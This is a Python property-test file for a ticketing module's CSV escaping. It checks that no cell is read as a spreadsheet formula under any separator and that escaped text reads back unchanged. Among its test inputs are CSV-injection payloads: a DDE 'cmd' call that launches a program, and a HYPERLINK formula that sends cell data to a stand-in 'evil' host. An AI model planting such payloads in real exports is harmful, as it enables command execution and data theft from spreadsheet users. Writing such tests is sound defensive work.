"""No reader makes a formula of a cell, and each cell gives its text back."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ticketing.cells import FORMULA, as_cell, from_cell

SEPARATORS = ",;\t|"

HOSTILE = [*FORMULA, *SEPARATORS, '"', "'", "\r\n", " ", "a", "cmd|'/c calc'!A1"]
texts = st.lists(st.sampled_from(HOSTILE), max_size=8).map("".join) | st.text(max_size=9)
rows = st.lists(st.lists(texts, min_size=2, max_size=2), min_size=1, max_size=3)


def written(rows, end="\r\n"):
    """A table as all of ours are written."""
    text = io.StringIO()
    csv.writer(text, lineterminator=end).writerows([map(as_cell, row) for row in rows])
    return text.getvalue()


def read(text, separator):
    """All cells that a reader finds."""
    return [*csv.reader(io.StringIO(text, newline=""), delimiter=separator)]


@given(rows, st.sampled_from(["\r\n", "\n"]))
@example([['printer;=HYPERLINK("http://evil/?"&A1)', ""]], "\r\n")
@example([["first line\n=cmd|'/c calc'!A1", ""]], "\r\n")
@example([["1", 'a;"=1']], "\r\n")
@example([["1", 'a,";'], ["1", "2"]], "\r\n")
@example([["1", "a,b;"], ["1", "2"]], "\r\n")
def test_no_cell_is_a_formula_whatever_parts_the_file(rows, end):
    if end == "\n" and any("\r" in text for row in rows for text in row):
        return  # Python before 3.13 leaves such a cell without quotes; ours have no such text
    for separator in SEPARATORS:
        found = read(written(rows, end), separator)
        assert not [cell for row in found for cell in row if cell.startswith(FORMULA)]


@given(texts)
@example("'=1")
@example("''=1;'")
def test_a_cell_gives_its_text_back(text):
    assert from_cell(as_cell(text)) == text
    [[read_back, _]] = read(written([[text, "x"]]), ",")
    assert from_cell(read_back) == text


@pytest.mark.parametrize("text", ["", "a=b", "x; y - z", "it's", "1,5 bar", "a\n\nb", "don't;"])
def test_what_is_no_formula_stays_but_for_its_last_separator(text):
    assert as_cell(text) == text + ("'" if text.endswith(";") else "")
